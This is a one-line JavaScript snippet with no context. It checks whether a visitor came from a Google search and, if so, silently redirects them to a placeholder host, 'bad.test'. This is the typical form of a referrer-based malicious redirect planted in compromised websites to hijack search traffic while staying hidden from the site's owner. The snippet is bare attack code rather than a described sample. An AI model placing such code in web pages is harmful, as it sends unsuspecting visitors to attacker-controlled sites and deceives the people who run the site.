var r = document.referrer; if (r.indexOf("google.") > 0) location.replace('//bad.test/');
